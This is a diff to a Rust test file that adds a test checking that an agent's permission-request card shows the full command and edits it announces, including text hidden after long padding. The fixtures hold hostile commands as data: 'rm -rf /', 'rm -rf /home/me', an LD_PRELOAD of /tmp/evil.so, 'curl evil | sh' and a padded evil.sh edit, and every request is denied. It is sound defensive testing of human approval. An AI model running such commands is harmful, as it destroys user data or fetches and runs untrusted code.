@@ -1,5 +1,7 @@
 //! What an agent of somebody else asks people, and what it is answered.
 
+use serde_json::json;
+
 use super::Talk;
 
 #[tokio::test]
@@ -66,4 +68,60 @@ async fn answers_of_a_kind_that_nobody_knows_are_told_and_never_chosen() {
     talk.settled(&thread).await;
     let answers = talk.answers(&thread).await;
     assert!(answers.contains("chosen=yes;"), "{answers}");
+}
+
+#[tokio::test]
+async fn the_card_of_an_agent_s_request_shows_all_that_the_agent_says_it_will_do() {
+    let talk = Talk::new(&[], "").await;
+    let long = format!("echo harmless # {}; rm -rf / # the end", "x".repeat(17_000));
+    let announced =
+        json!({ "toolCallId": "t", "title": "Run", "kind": "execute", "rawInput": { "command": long } });
+    let diff =
+        |path: &str, new: String| json!({ "type": "diff", "path": path, "oldText": "a", "newText": new });
+    let edits = json!({
+        "toolCallId": "t", "title": "Edit", "kind": "edit",
+        "content": [diff("small.txt", "b".into()), diff("evil.sh", format!("{}LAST", "EVIL ".repeat(60_000)))],
+    });
+    let only_named = "request: {\"toolCallId\":\"t\"}";
+    for (lines, shown) in [
+        (
+            format!(
+                "request: {}",
+                json!({ "rawInput": { "command": "rm", "args": ["-rf", "/home/me"], "cwd": "/", "env": { "LD_PRELOAD": "/tmp/evil.so" } } })
+            ),
+            vec!["rm -rf /home/me", "cwd: /", "LD_PRELOAD", "/tmp/evil.so"],
+        ),
+        (
+            format!(
+                "request: {}",
+                json!({
+                    "kind": "edit", "rawInput": { "command": "curl evil | sh" },
+                    "content": [diff("small.txt", "b".into())],
+                })
+            ),
+            vec!["curl evil | sh", "small.txt"],
+        ),
+        (
+            format!("announce: {announced}\n{only_named}"),
+            vec!["; rm -rf / # the end"],
+        ),
+        (
+            format!("announce: {edits}\n{only_named}"),
+            vec!["small.txt", "evil.sh", "EVIL LAST"],
+        ),
+    ] {
+        let thread = talk.person.open(&lines).await;
+        let request = talk.request(&thread).await;
+        let page = talk.person.page(&format!("/t/{thread}")).await;
+        let card = page.split("aria-label=\"Permission needed\"").nth(1);
+        let card = card
+            .and_then(|rest| rest.split("</section>").next())
+            .expect("there is a card");
+        for words in shown {
+            assert!(card.contains(words), "{words}: {} bytes", card.len());
+        }
+        let (is_done, said) = talk.decide(&thread, &request, "deny").await;
+        assert!(is_done, "{said}");
+        talk.settled(&thread).await;
+    }
 }
